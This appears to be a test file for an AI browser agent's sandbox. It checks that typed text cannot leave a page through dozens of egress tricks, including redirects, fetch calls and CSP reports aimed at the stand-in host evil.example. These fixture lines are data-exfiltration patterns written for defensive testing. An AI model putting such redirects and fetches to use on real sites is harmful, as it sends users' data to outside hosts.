/** @module-tag slow */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { browserRig, type BrowserRig } from './testing/browser-rig.ts'
import { EGRESS_TRICKS } from './testing/egress-tricks.ts'
import { needsChromium } from './testing/needs-chromium.ts'

needsChromium()

let rig: BrowserRig
beforeAll(async () => {
  rig = await browserRig({ names: { 'inside.example': '10.0.0.5', localhost: '127.0.0.1' } })
  const { serve } = rig.village
  serve('rest.example/', 'nothing')
  serve('shop.example/to-evil', (request, response) =>
    response.writeHead(302, { location: `http://evil.example/r${request.path}` }).end(),
  )
  serve('shop.example/keep-method', (_request, response) =>
    response.writeHead(307, { location: 'http://evil.example/kept' }).end(),
  )
  serve('shop.example/shared.js', (_request, response) =>
    response
      .setHeader('content-type', 'text/javascript')
      .end(
        "fetch('http://shop.example/shared',{method:'POST',body:'out'});fetch('http://evil.example/shared?out',{mode:'no-cors'})",
      ),
  )
  serve('shop.example/sw.js', (_request, response) =>
    response
      .setHeader('content-type', 'text/javascript')
      .end("fetch('http://evil.example/sw?out',{mode:'no-cors'})"),
  )
  serve('shop.example/csp', (_request, response) =>
    response
      .setHeader('content-security-policy', "script-src 'none'; report-uri http://evil.example/report")
      .setHeader('content-type', 'text/html')
      .end('<script>1</script>'),
  )
}, 60_000)
afterAll(() => rig.close())

test('there are at least forty tricks', () => {
  expect(EGRESS_TRICKS.length).toBeGreaterThanOrEqual(40)
})

const TYPED = 'typedbytheagent'

test.each(EGRESS_TRICKS)('nothing leaves by $name', async ({ script }) => {
  // Auto mode may open every public page; the person denies every question.
  rig.rules('auto', ['browser(domain:shop.example)'])
  rig.answer(() => ({ allow: false }))
  rig.village.serve(
    'shop.example/',
    `<input aria-label=Field id=field><button id=go>Go</button><script>go.onclick=()=>{const V=field.value;try{${script}}catch(e){}}</script>`,
  )
  await rig.act({ action: 'navigate', url: 'http://rest.example/' })
  for (const page of rig.session().pages.slice(0, -1)) await page.close()
  const { text } = await rig.act({ action: 'navigate', url: 'http://shop.example/' })
  const [field = '', go = ''] = [...text.matchAll(/\[(e\d+)\]/g)].map(([, ref]) => ref)
  await rig.act({ action: 'type', ref: field, text: TYPED })
  rig.village.arrived.length = 0
  rig.village.named.length = 0
  await rig.act({ action: 'click', ref: go })
  await rig.act({ action: 'wait', seconds: 0.3 })
  const out = rig.village.arrived.filter(
    ({ host, method, headers }) =>
      !host.startsWith('shop.example') ||
      !['GET', 'HEAD', 'OPTIONS'].includes(method) ||
      headers.upgrade !== undefined,
  )
  expect(out.map(({ method, host, path }) => `${method} ${host}${path}`)).toEqual([])
  // A name that is only looked up has already been told to others.
  expect(rig.village.named.filter((name) => name !== 'shop.example')).toEqual([])
})
